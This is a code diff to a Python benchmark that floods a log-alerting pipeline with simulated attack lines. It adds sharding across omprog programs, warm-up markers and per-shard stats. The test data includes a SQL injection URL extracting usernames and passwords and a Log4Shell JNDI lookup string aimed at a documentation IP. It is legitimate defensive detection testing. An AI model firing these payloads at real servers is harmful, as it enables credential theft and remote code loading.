@@ -19,6 +19,7 @@ lines the central server logged raw. The issue: 100k attack lines from 10,000 ad
 
     .venv/bin/python bench/bench_storm.py                 # 10,000 lines/s for 10 s
     .venv/bin/python bench/bench_storm.py --quick         # 2,000 lines/s for 3 s
+    .venv/bin/python bench/bench_storm.py --shards 2      # two programs (setup --shards 2)
 """
 
 from __future__ import annotations
@@ -50,6 +51,10 @@ _QUIET_SECS = 5.0
 _UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"
 _SQLI = "/products.php?id=1%27+UNION+SELECT+username,password+FROM+users--+-&n={n}"
 _LOG4SHELL = '"${jndi:ldap://198.51.100.9:1389/a}"'
+#: Warm-up markers are numbered from here; 8 of them, from 8 addresses, so that every shard
+#: has compiled its scanners (at its first line) before the calm marker is timed.
+_WARM_UP = 1000
+_WARM_UP_MARKERS = 8
 
 
 def _client(i: int) -> str:
@@ -68,9 +73,10 @@ def _attack(i: int, clients: int, stamp: str) -> bytes:
 
 
 def _marker(run: str, k: int) -> bytes:
+    """Marker ``k`` (from 1000 on: a warm-up marker, each from an address of its own)."""
+    client = f"192.0.2.{10 + k}" if k < _WARM_UP else f"198.51.100.{k - _WARM_UP + 1}"
     return lab.syslog_line(
-        f'192.0.2.{10 + k} - - [{_stamp()}] "GET /storm-marker-{run}-{k} HTTP/1.1" 200 512 '
-        f'"-" {_LOG4SHELL}'
+        f'{client} - - [{_stamp()}] "GET /storm-marker-{run}-{k} HTTP/1.1" 200 512 "-" {_LOG4SHELL}'
     )
 
 
@@ -239,16 +245,26 @@ def measure(args: argparse.Namespace, work: Path) -> Result:
             config=lab.write_lab_config(work / "lwsyslog.toml"),
             state_dir=work / "state",
             messages_file=messages,
+            extra=("--stats-every-lines", "10000"),  # a recent stats line from each shard
         )
-        with lab.LocalChain(work / "chain", program, journal, apache=False) as chain:
+        with lab.LocalChain(
+            work / "chain", program, journal, apache=False, shards=args.shards
+        ) as chain:
             follower = _Follower(journal, text_pattern, seen)
             tail = _FileTail(messages, re.compile(text_pattern.pattern.encode()), seen)
             tail.start()
             try:
                 with socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
                     # Warm-up (program start, TLS, journalctl following), then the calm marker.
-                    sock.sendall(_marker(run, 1000))
-                    lab.wait_for(lambda: 1000 in seen.journal, 60, "the warm-up alert")
+                    sock.sendall(_marker(run, _WARM_UP))
+                    lab.wait_for(lambda: _WARM_UP in seen.journal, 60, "the warm-up alert")
+                    # Then one line from each of a few more addresses, so that every shard
+                    # has compiled its scanners (at its first line) before anything is timed.
+                    warm_up = range(_WARM_UP + 1, _WARM_UP + _WARM_UP_MARKERS)
+                    sock.sendall(b"".join(_marker(run, k) for k in warm_up))
+                    lab.wait_for(
+                        lambda: all(k in seen.journal for k in warm_up), 60, "the warm-up alerts"
+                    )
                     time.sleep(1.0)
                     result.marker_sent[0] = time.monotonic()
                     result.marker_sent_wall[0] = time.time()
@@ -271,11 +287,15 @@ def measure(args: argparse.Namespace, work: Path) -> Result:
             result.suppressed = _suppressed(journal)
             result.raw_lines = _raw_lines(chain.raw_dir)
             with contextlib.suppress(OSError):
-                stats = [
-                    row for row in chain.omprog_stderr.read_text(errors="replace").splitlines()
-                    if "stats:" in row
+                stats = [  # the last stats line of each program
+                    rows[-1]
+                    for path in chain.omprog_stderrs
+                    if (rows := [r for r in path.read_text(errors="replace").splitlines()
+                                 if "stats:" in r])
                 ]  # fmt: skip
-                result.stats = stats[-1].split("stats:", 1)[1].strip()[:400] if stats else ""
+                result.stats = " | ".join(
+                    last.split("stats:", 1)[1].strip()[:400] for last in stats
+                )
     return result
 
 
@@ -302,7 +322,8 @@ def _report(report: Report, args: argparse.Namespace, result: Result) -> bool:
     report.line(
         f"- storm: {result.sent:,} SQL injection lines from {args.clients:,} addresses, sent in "
         f"{result.send_secs:.1f} s ({result.sent / result.send_secs:,.0f} lines/s asked "
-        f"{args.rate:,}); lines the central server logged raw: {result.raw_lines:,}\n"
+        f"{args.rate:,}) to {args.shards} omprog program(s) (`--shards`: rsyslog splits the "
+        f"clients by hash); lines the central server logged raw: {result.raw_lines:,}\n"
     )
     report.table(
         ["marker", "sent", "to journald by the program, s", "readable (`journalctl -f`), s",
@@ -366,6 +387,9 @@ def _parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
         type=float,
         default=180.0,
         help="wait at most this long after the storm for alerts (180 s)",
+    )
+    parser.add_argument(
+        "--shards", type=int, default=1, help="omprog programs sharded by client (1)"
     )
     parser.add_argument("--quick", action="store_true", help="2,000 lines/s for 3 s")
     return parser.parse_args(argv)  # fmt: skip
